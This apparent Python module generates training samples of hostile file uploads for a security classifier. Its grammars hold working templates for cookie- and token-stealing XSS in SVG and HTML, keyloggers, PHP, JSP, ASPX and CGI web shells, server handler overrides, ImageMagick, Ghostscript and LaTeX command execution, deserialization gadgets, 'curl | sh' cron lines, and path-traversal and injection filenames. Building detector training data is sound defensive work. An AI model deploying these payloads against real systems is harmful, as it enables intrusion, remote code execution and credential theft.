"""What hostile uploads hold: pictures and pages with script, server code in disguise, handlers, names."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import BODY, FILE, FILENAME, VALUE, AttackKind
from securitai.verdict import Category

_JS = ("fetch('//{0}/?c='+document.cookie)", "top.location='http://{0}/'+document.cookie", "eval(name)", "alert(document.domain)", "new Image().src='//{0}/'+localStorage.token")  # fmt: skip
_HOST = PARTS.maker("host")


def data_url(rng: Random) -> str:
    """A page or a script as a data URL in base64."""
    code = _JS[int(rng.random() * len(_JS))].format(_HOST(rng))
    if rng.random() < 0.5:
        return "data:text/html;base64," + b64encode(f"<script>{code}</script>".encode()).decode()
    return "data:text/javascript;base64," + b64encode(code.encode()).decode()


_PAGES = Grammar(
    r"""
js1:
  alert(‹document.domain¦document.cookie¦origin¦1¦location.href¦window.origin›)
  ‹confirm¦prompt¦alert›(‹/xss/.source¦document.title¦document.domain›)
  fetch('‹url›'+‹secret›)
  fetch("‹url›",{method:"POST",‹?mode›body:‹secret›})
  new Image().src="‹url›?‹az›="+‹secret›
  (new Image).src='//‹host›/?'+encodeURIComponent(‹secret›)
  navigator.sendBeacon('//‹host›/‹az›',‹secret›)
  location‹.href¦›='‹url›?'+‹secret›
  top.location.replace('https://‹host›/‹login¦signin¦verify›')
  var x=new XMLHttpRequest();x.open('GET','‹url›?k='+btoa(‹secret›));x.send()
  fetch('/‹api/me¦profile¦admin/users¦account¦settings¦api/keys›',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('‹url›',{method:'POST',body:t}))
  fetch('/‹admin¦user¦account›/‹edit¦create¦password¦update›',{method:'POST',body:'‹az›=‹rnd›&role=admin'})
  eval(atob('‹b64›'))
  Function(atob("‹b64›"))()
  document.body.appendChild(document.createElement('script')).src='//‹host›/‹az›.js'
  document.onkeypress=e=>fetch('//‹host›/?k='+e.key)
  document.forms[0].action='‹url›'
  parent.document.body.innerHTML='<h1>‹rnd›</h1>'
  document.write('<img src="//‹host›/?'+‹secret›+'">')
secret = document.cookie¦localStorage.getItem('token')¦document.cookie¦JSON.stringify(localStorage)¦document.documentElement.outerHTML¦sessionStorage.jwt¦top.document.cookie¦btoa(document.cookie)¦parent.document.cookie
mode = mode:"no-cors",
js = 3×‹js1›¦‹js1›;‹js1›¦(function(){‹js1›})();¦setTimeout(()=>{‹js1›},‹#10-3000›)¦try{‹js1›}catch(e){}¦var ‹x=id›=‹secret›;‹nl›‹js1›;¦window.onload=function(){‹js1›}¦addEventListener('load',()=>‹js1›)
jsa = 4×‹js1q›¦eval(atob(&quot;‹b64›&quot;))¦&#97;lert(‹d1›)¦top[&apos;al&apos;+&apos;ert&apos;](document.domain)¦this[`al`+`ert`](‹d1›)
js1q:
  alert(‹document.domain¦document.cookie¦1¦origin›)
  fetch('//‹host›/'+document.cookie)
  new Image().src='//‹host›/?'+document.cookie
  location='//‹host›/?'+document.cookie
  eval(location.hash.slice(1))
  top.location='‹url›'
  window.open('‹url›')
  navigator.sendBeacon('‹url›',document.cookie)
  fetch('/‹api/me¦admin›').then(r=>r.text()).then(t=>fetch('//‹host›',{method:'POST',body:t}))
id = data¦el¦icon¦logo¦shape¦a¦img¦t¦clip0¦layer1¦grad¦bg¦badge¦chart¦path42¦main¦title
num = 0¦12¦24¦4.5¦100¦2.25¦64¦512¦7¦18.2¦-3¦33
fill = #000¦#fff¦none¦red¦currentColor¦#1e90ff¦url(#grad)¦#333333¦rgb(255,99,71)
shape:
  <path d="M‹num› ‹num›L‹num› ‹num›H‹num›V‹#1-99›z" fill="‹fill›"/>
  <rect x="‹num›" y="‹num›" width="‹#1-900›" height="‹#1-900›"‹?paint›/>
  <circle cx="‹num›" cy="‹num›" r="‹#1-99›" fill="‹fill›"/>
  <polygon points="0,0 0,‹#1-99› ‹#1-99›,0"‹?paint›/>
  <text x="‹num›" y="‹num›" font-size="‹#8-40›">‹word›</text>
  <g id="‹id›" transform="translate(‹num›,‹num›)">‹shape1›</g>
  <title>‹word›</title>
shape1 = <path d="m‹num›,‹num› c‹num›,‹num› ‹num›,‹num› ‹num›,‹num›"/>¦<line x1="‹num›" y1="‹num›" x2="‹num›" y2="‹num›" stroke="‹fill›"/>
paint = ‹sp›style="fill:‹fill›;stroke-width:‹d1›"
sattr = ‹sp›viewBox="0 0 ‹#10-999› ‹#10-999›"¦‹sp›width="‹#10-999›" height="‹#10-999›"¦‹sp›version="1.1" id="‹id›" xmlns:xlink="http://www.w3.org/1999/xlink"¦‹sp›xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ‹#10-99› ‹#10-99›" fill="‹fill›"
shead = 3×‹e›¦<?xml version="1.0" encoding="UTF-8"?>‹nl›¦<?xml version="1.0" standalone="no"?>‹nl›<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">‹nl›¦<!-- Generator: ‹word› ‹d1›.‹d1› -->‹nl›
on = onload¦onclick¦onmouseover¦onfocusin¦onbegin¦onend¦onerror¦onpointerenter¦onactivate¦onrepeat
evil_part:
  4×<script‹stype›>‹js›</script>
  <script‹stype›><![CDATA[‹nl›‹js›‹nl›]]></script>
  <script ‹xlink:¦›href="//‹host›/‹az›.js"/>
  <script xlink:href="‹durl›"/>
  2×<a ‹xlink:href¦href›="‹j›‹jsa›">‹shape›</a>
  2×<foreignObject width="‹#50-900›" height="‹#50-900›"><‹body¦div¦iframe› xmlns="http://www.w3.org/1999/xhtml" ‹?srcdoc›onload="‹jsa›"/></foreignObject>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="‹j›‹jsa›"/></foreignObject>
  <foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="‹url›"><input name="‹password¦pass¦pin›"/></form></foreignObject>
  <image ‹href¦xlink:href›="x" onerror="‹jsa›"/>
  <‹animate¦set¦animateTransform› attributeName="‹x¦opacity¦r›" dur="‹d1›s" ‹onbegin¦onend›="‹jsa›"/>
  <a id="‹x=id›">‹shape›</a><animate xlink:href="#‹$x›" attributeName="‹href¦xlink:href›" values="‹j›‹jsa›"/>
  <set attributeName="‹href¦xlink:href›" to="‹j›‹jsa›"/>
  <use ‹href¦xlink:href›="data:image/svg+xml;base64,‹b64›#x"/><script>‹js›</script>
  <style>@import '//‹host›/‹az›.css';</style><script>‹js›</script>
  <handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">‹js›</handler>
  <g ‹on›="‹jsa›">‹shape›</g>
  <rect width="‹#9-999›" height="‹#9-999›" ‹on›="‹jsa›"/>
j = javascript:¦javascript:¦JaVaScRiPt:¦java&#115;cript:¦&#106;avascript:¦java&#9;script:
stype:
  2×‹e›
  ‹sp›type="‹text/javascript¦application/ecmascript¦text/ecmascript›"
srcdoc = id="‹az›"‹sp›
svg:
  6×‹shead›<svg xmlns="http://www.w3.org/2000/svg"‹sattr›>‹nl›‹shape›‹?shape›‹evil_part›‹?shape›‹nl›</svg>
  3×‹shead›<svg‹sattr› ‹on0›="‹jsa›" xmlns="http://www.w3.org/2000/svg">‹shape›‹?shape›</svg>
  <svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>‹js›</svg:script></svg:svg>
  ‹shead›<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">‹shape›<h:‹script¦iframe src="javascript:0"¦img src="x" onerror="0"›>‹js›</h:script></svg>
on0 = onload¦onload¦onmouseover¦onclick¦onfocusin
page:
  3×<!DOCTYPE html>‹nl›<html‹?lang›>‹nl›<head><meta charset="utf-8"><title>‹word›</title></head>‹nl›<body>‹nl›‹?para›‹spart›‹nl›</body>‹nl›</html>
  <html><head><script‹stype›>‹js›</script></head><body>‹para›</body></html>
  <html><body onload="‹jsa›">‹para›</body></html>
  <html><head><meta http-equiv="refresh" content="‹d1›;url=‹data:text/html,<script>alert(1)</script>¦javascript:alert(1)›"></head><body>‹spart›</body></html>
  ‹para›‹spart›
  <html xmlns="http://www.w3.org/1999/xhtml"><script>‹js›</script></html>
  <?xml version="1.0"?>‹nl›<‹x=id›><h:script xmlns:h="http://www.w3.org/1999/xhtml">‹js›</h:script></‹$x›>
  <?xml version="1.0"?>‹nl›<?xml-stylesheet type="text/xsl" href="‹durl›"?>‹nl›<‹id›/><!-- <script>‹js›</script> -->
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>‹js›</script></body></html></xsl:template></xsl:stylesheet>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"><m:script language="JScript" implements-prefix="u">function x(){return new ActiveXObject('WScript.Shell').Run('‹wcmd0›')}</m:script></xsl:stylesheet>
  <rss version="2.0"><channel><title>‹word›</title><item><description><![CDATA[<script>‹js›</script>]]></description></item></channel></rss>
  ‹magic›/*‹az›*/=0;‹js›//
  ‹magic›‹nl›<html><body><script>‹js›</script></body></html>
  %PDF-1.‹d1›‹nl›1 0 obj‹nl›<</Type/Catalog/OpenAction<</S/JavaScript/JS(‹pdfjs›)>>>>‹nl›endobj
  %PDF-1.‹d1›‹nl›‹#1-99› 0 obj <</Type /Action /S /Launch /Win << /F (‹cmd.exe¦powershell.exe¦c:\\windows\\system32\\cmd.exe›) /P (/c ‹wcmd0›) >>>> endobj
  From: <‹mail›>‹nl›MIME-Version: 1.0‹nl›Content-Type: multipart/related; boundary=x‹nl›‹nl›--x‹nl›Content-Type: text/html‹nl›‹nl›<script>‹js›</script>‹nl›--x--
pdfjs = app.alert\(this.URL+'‹rnd›'\);this.getURL\('‹url›'\)¦this.submitForm\('‹url›'\)¦app.launchURL\("‹url›",true\);¦var x=unescape\('%u9090%u9090%u‹hexrun›'\);
lang = ‹sp›lang="en"
para = <h1>‹word›</h1>‹nl›¦<p>‹word› ‹word› ‹word›</p>‹nl›¦<form action="/‹word›" method="post"><input name="‹az›"></form>‹nl›¦<div class="‹az›">‹word›</div>‹nl›¦<table><tr><td>‹word›</td><td>‹n›</td></tr></table>
spart:
  5×<script‹stype›>‹js›</script>
  <script src="//‹host›/‹az›.js"></script>
  <script src="‹durl›"></script>
  <iframe src="‹j›‹jsa›"></iframe>
  <iframe src="‹durl›"></iframe>
  <img src=‹x¦"x"¦1› onerror="‹jsa›">
  <form id=f action="https://‹host›/‹az›" method=post><input name=user><input name=pass type=password></form><script>‹js›</script>
  <svg onload="‹jsa›">
  <object data="‹durl›"></object>
  <a href="‹j›‹jsa›">‹word›</a>
  <input autofocus onfocus="‹jsa›">
  <details open ontoggle="‹jsa›">
magic = GIF89a¦GIF87a¦BM¦ÿØÿà¦%PDF-1.4
""",
    PARTS,
    {"durl": data_url},
)

_DROPS = Grammar(
    r"""
pid = data¦cmd¦q¦code¦key¦z0¦act¦c¦p¦token¦x¦file¦id¦run¦lang
az1 = a¦b¦out¦tmp¦data¦buf¦res¦fn¦cb¦config¦str¦handler¦k1¦_0x1¦O0¦theme
src:
  4×$_‹GET¦POST¦REQUEST¦COOKIE›['‹pid›']
  filter_input(INPUT_‹GET¦POST¦COOKIE›,'‹pid›')
  getenv('HTTP_‹AZ6›')
  $_SERVER['HTTP_X_‹AZ6›']
  getallheaders()['‹Az›']
  file_get_contents('php://input')
  array_pop($_‹POST¦GET›)
  current($_‹POST¦COOKIE¦GET›)
  json_decode(file_get_contents('php://input'),1)['‹pid›']
  $_FILES['‹pid›']['name']
  implode('',file($_FILES['‹pid›']['tmp_name']))
  substr($_SERVER['QUERY_STRING'],‹d1›)
dec = 2×‹src›¦base64_decode(‹src›)¦hex2bin(‹src›)¦str_rot13(‹src›)¦strrev(‹src›)¦gzuncompress(base64_decode(‹src›))¦openssl_decrypt(‹src›,'AES-128-ECB','‹hexrun›')¦(‹src›)^'‹rnd›'¦pack('H*',‹src›)
sh = system¦passthru¦shell_exec¦exec¦popen
sink:
  3×‹sh›(‹dec›);
  2×eval(‹dec›);
  @assert(‹dec›);
  echo `{‹v2›}`;
  print shell_exec(‹dec›.' 2>&1');
  ‹w=v1›=‹dec›;eval(‹$w›);
  ‹w=v1›=tempnam(sys_get_temp_dir(),'');file_put_contents(‹$w›,'<?php '.‹dec›);include ‹$w›;unlink(‹$w›);
  ‹w=v1›='‹sy›'.'‹st›';‹$w›(‹dec›);
  call_user_func('‹sh›',‹dec›);
  call_user_func_array(‹src›,[‹dec›]);
  array_map('‹sh›',[‹dec›]);
  array_walk($_‹POST¦GET›,function(‹w=v1›){eval(‹$w›);});
  preg_replace_callback('/.*/',fn(‹w=v1›)=>eval(‹$w›[0]),‹dec›);
  mb_ereg_replace('.*',‹dec›,'','e');
  usort($_GET,'assert');
  ob_start('‹sh›');echo ‹dec›;ob_end_flush();
  (new ReflectionFunction('‹sh›'))->invoke(‹dec›);
  (function(‹w=v1›){return eval(‹$w›);})(‹dec›);
  extract($_REQUEST);$‹pid›($‹az1›);
  file_put_contents(__DIR__.'/‹rnd›.php',‹dec›);
  move_uploaded_file($_FILES['‹pid›']['tmp_name'],basename($_FILES['‹pid›']['name']));
  $h=proc_open(‹dec›,[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);
  unserialize(‹dec›);
  include 'data:,'.‹dec›;
v1 = $a¦$out¦$tmp¦$data¦$buf
v2 = $_GET['c']¦$_POST['cmd']¦$_REQUEST[0]¦$_COOKIE['x']
sy = sys¦pass¦shell¦ex¦ass
st = tem¦thru¦_exec¦ec¦ert
pwd:
  if(‹md5¦sha1›($_‹POST¦COOKIE¦GET›['‹pid›'])!=='‹hexrun›')‹die;¦exit;¦{http_response_code(404);exit;}›‹nl›
  if(!isset($_‹GET¦POST¦REQUEST›['‹pid›'])) die('‹404 Not Found¦ok¦0›');‹nl›
  error_reporting(0);@set_time_limit(0);‹nl›
  header('HTTP/1.1 404 Not Found');‹nl›
  ini_set('display_errors',0);‹nl›
  /* ‹word› ‹word› v‹d1›.‹d1› */‹nl›
  namespace ‹Az›;‹nl›
php1:
  3×‹opening›‹?pwd›‹sink›‹closing›
  ‹opening›‹pwd›‹sink›‹nl›‹sink›‹closing›
  ‹opening›if(isset(‹src›)){‹sink›}‹closing›
  ‹opening›function ‹f=az›(){‹sink›}‹$f›();‹closing›
  ‹opening›class ‹f=Az›{function __construct(){‹sink›}}new ‹$f›;‹closing›
  ‹opening›register_shutdown_function(function(){‹sink›});‹closing›
  ‹opening›add_action('init',function(){‹sink›});‹closing›
  <?=`‹v2›`?>
  <?=‹sh›(‹dec›)?>
opening = 4×<?php‹sp›¦2×<?php‹nl›¦<?‹sp›¦<?PHP‹sp›
closing = 2×?>¦‹nl›?>‹nl›¦‹e›¦‹sp›?>‹az›
jparam = request.getParameter("‹pid›")¦request.getHeader("X-‹Az›")¦request.getQueryString()¦application.getInitParameter("‹pid›")+request.getParameter("‹pid›")
jsp:
  <%@ page import="java.‹io.*¦util.*¦lang.*›" %>‹nl›<%‹nl›  String ‹a=az1›=‹jparam›;‹nl›  if(‹$a›!=null){ Process p=Runtime.getRuntime().exec(‹$a›);‹nl›  out.print(new String(p.getInputStream().readAllBytes())); }‹nl›%>
  <%String ‹a=az1›=‹jparam›;ProcessBuilder b=new ProcessBuilder("‹sh¦bash¦cmd›","‹-c¦/c›",‹$a›);b.redirectErrorStream(true);b.start();%>
  <%=new String(Runtime.getRuntime().exec(‹jparam›).getInputStream().readAllBytes())%>
  <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="‹1.2¦2.0¦2.1›"><jsp:scriptlet>Runtime.getRuntime().exec(‹jparam›);</jsp:scriptlet></jsp:root>
  <%java.nio.file.Files.write(java.nio.file.Paths.get(application.getRealPath("/"),"‹az›.jsp"),java.util.Base64.getDecoder().decode(‹jparam›));%>
  ${pageContext.setAttribute("‹a=az1›","".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.‹pid›))}
  <%! public static class L extends ClassLoader{L(ClassLoader c){super(c);}Class d(byte[] b){return defineClass(null,b,0,b.length);}} %><%new L(getClass().getClassLoader()).d(java.util.Base64.getDecoder().decode(‹jparam›)).newInstance().equals(pageContext);%>
  <%new javax.script.ScriptEngineManager().getEngineByName("‹js¦nashorn¦graal.js›").eval(‹jparam›);%>
net:
  <%eval request‹.form¦.querystring¦›("‹pid›")%>
  <%‹Execute¦ExecuteGlobal¦eval›(‹request¦Request.Form¦StrReverse(request›("‹pid›"))%>
  <%@ Page Language="C#" %><%var p=System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd","/c "+Request‹.Form¦.QueryString¦.Headers¦›["‹pid›"]){RedirectStandardOutput=true,UseShellExecute=false});Response.Write(p.StandardOutput.ReadToEnd());%>
  <%@ Page Language="Jscript" %><%eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Item["‹pid›"])),"unsafe");%>
  <%@ WebHandler Language="C#" Class="‹h=Az›" %>‹nl›public class ‹$h› : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext x) { System.IO.File.WriteAllText(x.Server.MapPath("‹az›.aspx"), x.Request["‹pid›"]); } public bool IsReusable { get { return true; } } }
  @{ var ‹h=az1› = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["‹pid›"]); }
  <cfset ‹h=az1›="#‹form¦url¦cgi›.‹pid›#"><cfexecute name="‹cmd¦/bin/bash¦powershell›" arguments="‹/c¦-c› #‹$h›#" variable="o"/><cfoutput>#o#</cfoutput>
  <cfoutput>#evaluate(‹form¦url›.‹pid›)#</cfoutput>
script:
  #!/usr/bin/perl‹nl›use CGI;‹nl›my $‹a=az1›=CGI->new->param('‹pid›');‹nl›print "Content-Type: text/plain\n\n",`$‹$a›`;
  #!/usr/bin/perl -w‹nl›read(STDIN,$‹a=az1›,$ENV{CONTENT_LENGTH});eval $‹$a›;print $@;
  #!/usr/bin/env python3‹nl›import os,urllib.parse as u‹nl›print('Content-Type: text/plain\n')‹nl›os.system(u.parse_qs(os.environ['QUERY_STRING'])['‹pid›'][0])
  #!/usr/bin/python3‹nl›import subprocess,sys‹nl›exec(sys.stdin.read())‹nl›# ‹rnd›
  #!/usr/bin/env ruby‹nl›require 'cgi'‹nl›puts "Content-Type: text/plain\n\n", `#{CGI.new['‹pid›']}`
  #!/usr/bin/lua‹nl›print("Content-Type: text/plain\n") local f=io.popen(os.getenv("HTTP_X_‹AZ6›")) print(f:read("*a"))
  #!/bin/‹sh¦bash›‹nl›echo Content-Type: text/plain‹nl›echo‹nl›eval "$HTTP_X_‹AZ6›"
  const {exec:‹a=az1›}=require('child_process');module.exports=(req,res)=>‹$a›(req.‹query¦body¦headers›.‹pid›,(e,o)=>res.send(o));
  <% require 'open3'; o,s=Open3.capture2e(params[:‹pid›]) %><%= o %>
  <html><body>‹word›<!--#exec ‹cmd¦cgi›="‹ucmd0›" --></body></html>
  <!--#set var="‹az1›" value="$QUERY_STRING" --><!--#exec cmd="$‹az1›" -->
dropped:
  4×‹php1›
  2×‹jsp›
  2×‹net›
  2×‹script›
  ‹mask›‹nl›‹php1›
  ‹mask›‹jsp›
  ‹mask›‹net›
  ÿØÿà‹nul›‹d1›JFIF‹nul›ÿþ‹nul›‹php1›‹nul›ÿÛ‹nul›C
  ‰PNG‹crlf›‹nul›‹nul›‹nul›IHDR‹nul›‹nul›tEXtComment‹nul›‹php1›‹nul›IEND
  PK‹nul›‹nul›‹rnd›.php‹php1›
  <svg xmlns="http://www.w3.org/2000/svg"><!-- ‹php1› --><path d="M0 0h24"/></svg>
  <?xml version="1.0"?>‹nl›<‹a=az1›>‹php1›</‹$a›>
  <html><head><title>‹word›</title></head><body><h1>‹word›</h1>‹php1›</body></html>
  <?php __HALT_COMPILER(); ?>‹crlf›‹nul›‹nul›‹rnd›.phar‹nul›O:‹#4-30›:"‹Az›":1:{s:‹d1›:"‹az›";s:‹#2-30›:"‹ucmd0›";}
  Exif‹nul›‹nul›Make‹nul›‹word›‹nul›/.*/e‹nul›eval(base64_decode('‹b64›'));
  ‹magic2›<?xpacket begin=''?><rdf:Description dc:title="‹word›"/>‹php1›
mask = GIF89a¦GIF89a;¦GIF87a¦BM¦ÿØÿà JFIF¦ÿØÿá Exif¦‰PNG¦%PDF-1.5¦RIFFxWEBP¦--¦/* */¦<!-- -->
magic2 = ÿØÿá¦II*¦MM*
hx:
  jpg
  2×‹az›
  ‹png¦gif¦txt¦css¦log¦webp¦ico›
hnd:
  ‹AddType¦addtype› application/x-httpd-‹php¦php5¦php7¦php8¦php-source› .‹hx›
  AddHandler ‹application/x-httpd-php¦php5-script¦php7-script¦cgi-script¦server-parsed¦fcgid-script› .‹hx›
  <Files‹Match¦› "‹az›.‹hx›"‹sp›>‹nl›  SetHandler ‹application/x-httpd-php¦"proxy:unix:/run/php/php-fpm.sock|fcgi://localhost"¦cgi-script¦ld-lua›‹nl›  ForceType application/x-httpd-php‹nl›</Files>
  php_value auto_‹prepend¦append›_file "‹/tmp/¦./¦uploads/¦›‹rnd›.‹hx›"
  php_value auto_prepend_file ‹.htaccess¦php://input¦data:;base64,PD9waHA›‹nl›#‹php1›
  php_flag engine ‹on¦1›‹nl›AddHandler application/x-httpd-php .‹hx›
  Options +ExecCGI‹nl›SetHandler cgi-script‹nl›# ‹word›
  Options +Includes‹nl›AddOutputFilter INCLUDES .‹hx›‹nl›AddType text/html .‹hx›
  <If "‹file('/etc/passwd') =~ /root/¦req('X') == 'y'›">‹nl›ErrorDocument 404 "%{file:‹u_file›}"‹nl›</If>
  php_value zend.multibyte 1‹nl›php_value zend.script_encoding "UTF-7"‹nl›php_value auto_append_file .‹hx›
  auto_‹prepend¦append›_file = "‹rnd›.‹hx›"‹nl›disable_functions =
  extension=/tmp/‹rnd›.so‹nl›auto_prepend_file=‹az›.‹hx›
  <configuration><system.webServer><handlers><add name="‹az›" path="*.‹hx›" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" /></handlers></system.webServer></configuration><!-- ‹net› -->
  <configuration><system.web><compilation><buildProviders><add extension=".‹hx›" type="System.Web.Compilation.PageBuildProvider"/></buildProviders></compilation></system.web><!--‹net›--></configuration>
  ‹#define xbm_width 1¦#define a_width 337›‹nl›#define ‹az›_height ‹n›‹nl›AddType application/x-httpd-php .‹hx›
tool:
  push graphic-context‹nl›viewbox 0 0 ‹#9-900› ‹#9-900›‹nl›‹fill¦image over 0,0 0,0› '‹https¦url(https›://‹host›/‹az›.jpg"|‹ucmd0›‹"'¦")'›‹nl›pop graphic-context
  push graphic-context‹nl›viewbox 0 0 ‹#9-900› ‹#9-900›‹nl›image over 0,0 0,0 '‹label:@¦text:¦ephemeral:¦msl:¦read:›‹u_file›'‹nl›pop graphic-context
  %!PS‹?psv›‹nl›(%pipe%‹ucmd0›) (w) file‹nl›quit
  %!PS‹?psv›‹nl›/‹az› 0 def userdict /setpagedevice undef‹nl›mark /OutputFile (%pipe%‹ucmd0›) currentdevice putdeviceprops showpage
  %!PS‹?psv›‹nl›(‹u_file›) (r) file 256 string readstring pop ==
  \documentclass{article}\begin{document}\‹immediate\write18¦write18¦ShellEscape¦input|¦directlua›{‹ucmd0›}\input{‹az›}\end{document}
  \newread\‹a=az1›\openin\‹$a›=‹u_file› \loop\unless\ifeof\‹$a› \read\‹$a› to\l \l\repeat
  \begin{document}\‹input¦include¦verbatiminput¦lstinputlisting›{‹u_file›}\end{document}
  !!python/object/‹apply¦new›:‹os.system¦subprocess.Popen¦builtins.eval¦posix.system›‹nl›‹args: ¦- ›["‹ucmd0›"]
  ‹az1›: !!python/object/apply:subprocess.check_output‹nl›  args: [‹ucmd0›]‹nl›  kwds: {shell: true}
  cposix‹nl›system‹nl›p0‹nl›(V‹ucmd0›‹nl›p1‹nl›tp2‹nl›Rp3‹nl›.
  * * * * * ‹root ¦›‹ucmd1›‹nl›
  */‹#1-30› * * * * root ‹curl¦wget -qO-› ‹url› | ‹sh¦bash›‹nl›
  [Desktop Entry]‹nl›Type=Application‹nl›Name=‹word›‹nl›Exec=sh -c "‹curl¦wget -O-› ‹url›|sh"
  [InternetShortcut]‹nl›URL=file://‹host›/share/‹az›.‹exe¦url¦hta›
  #EXTM3U‹nl›#EXT-X-MEDIA-SEQUENCE:0‹nl›#EXTINF:10.0,‹nl›concat:http://‹host›/‹az›.m3u8|file://‹u_file›‹nl›#EXT-X-ENDLIST
  (metadata "\c${‹system¦use MIME::Base64;eval›('‹ucmd0›')};")
  <image><read filename="‹url:¦msl:¦text:›‹u_file›"/><write filename="/var/www/html/‹rnd›.php"/></image>
  <script language="VBScript">CreateObject("WScript.Shell").Run "‹wcmd0›",0</script>
  <package><job id="‹az›"><script language="JScript">new ActiveXObject("WScript.Shell").Run("‹wcmd0›");</script></job></package>
  <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId‹n›" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/‹oleObject¦attachedTemplate¦frame›" Target="‹mhtml:¦›‹url›!x-usc:‹url›" TargetMode="External"/></Relationships>
psv = -Adobe-3.0
stem = invoice¦photo¦avatar¦logo¦cv¦report¦shell¦x¦image¦a¦doc¦test¦index¦me¦profile
sfx = php¦phtml¦pHp¦php7¦php8¦phar¦pht¦jsp¦jspx¦aspx¦asp¦ashx¦cfm¦shtml¦cgi¦pl
pic = jpg¦png¦gif¦pdf¦jpeg¦webp¦docx¦svg¦txt
fbase = 2×‹stem›¦‹stem›‹#1-99›¦‹rnd›¦‹syl›-‹stem›
fname:
  2×‹fbase›.‹sfx›.‹pic›
  2×‹fbase›.‹pic›.‹sfx›
  ‹fbase›.‹sfx›‹;.¦%00.¦%0d.¦%0a.¦\x00.¦#.¦?.¦:.¦/.¦%20.›‹pic›
  ‹fbase›.‹sfx›‹::$DATA¦::$INDEX_ALLOCATION¦%20¦.¦...¦/.¦%00¦:a.jpg›
  ‹fbase›‹nul›.‹sfx›
  ‹fbase›.‹sfx›‹nul›.‹pic›
  ‹dots›‹fbase›.‹sfx›
  2×‹dots›‹dirs›/‹fbase›.‹sfx›
  ‹dots›‹etc/cron.d/¦root/.ssh/authorized_keys¦WEB-INF/web.xml¦etc/passwd¦.git/hooks/post-checkout¦etc/ld.so.preload¦var/spool/cron/root›‹?az›
  ‹dots›‹home¦Users›/‹user›/.‹ssh/authorized_keys¦bashrc¦profile¦config/autostart/x.desktop›
  ‹fbase›.‹pic›‹;¦|¦&&¦ & ›‹ucmd0›
  ‹fbase›‹;¦|¦`¦$(›‹ucmd0›‹;¦|¦`¦)›.‹pic›
  "‹?gt›><img src=‹x¦y¦1› onerror=‹alert¦prompt¦confirm›(‹document.domain¦1¦origin›)>.‹pic›
  '"><‹svg/onload=¦script>¦body onload=›alert(‹n›)‹>¦//¦</script>›.‹pic›
  <img src=x onerror=‹alert¦eval¦fetch›(`‹n›`)>.‹pic›
  ‹fbase›' ‹or¦and› ‹n›=‹n› ‹-- ¦#›.‹pic›
  ‹fbase›',(select‹sp›sleep(‹d1›)))-- -.‹pic›
  O:‹#4-30›:"‹Az›":‹d1›:{s:‹d1›:"‹az›";s:‹d1›:"‹rnd›";}.‹pic›
  phar://‹fbase›.‹pic›/‹az›
  ‹=¦@¦+¦›cmd|'/c ‹wcmd0›'!A‹d1›.csv
  --‹checkpoint-action=exec=¦rsh-command=¦to-command=¦use-compress-program=›‹ucmd0›
  {{‹n›*‹n›}}‹stem›.‹pic›
  ${jndi:‹ldap¦dns¦rmi›://‹host›/‹az›}.‹pic›
gt = '
dots = 2×../¦../../../¦../../../../../../¦..%2f..%2f..%2f¦..\..\..\¦%2e%2e%2f%2e%2e%2f¦....//....//¦..%5c..%5c¦..%252f..%252f¦/../../
dirs = var/www/html¦webapps/ROOT¦wwwroot¦inetpub/wwwroot¦public¦public_html¦uploads¦htdocs¦static¦usr/share/nginx/html¦opt/tomcat/webapps¦wp-content/plugins¦templates¦app/views
""",
    PARTS,
)

_UP = Category.FILE_UPLOAD
KINDS = (
    AttackKind("upcontent.svg", Category.XSS, _PAGES.maker("svg"), 0.8, (FILE, BODY, VALUE)),
    AttackKind("upcontent.page", Category.XSS, _PAGES.maker("page"), 0.7, (FILE, VALUE)),
    AttackKind("upcontent.dropped", _UP, _DROPS.maker("dropped"), 1.2, (FILE, VALUE)),
    AttackKind("upcontent.handler", _UP, _DROPS.maker("hnd"), 0.5, (FILE,)),
    AttackKind("upcontent.tool", _UP, _DROPS.maker("tool"), 0.6, (FILE,)),
    AttackKind("upcontent.name", _UP, _DROPS.maker("fname"), 1.0, (FILENAME,)),
)
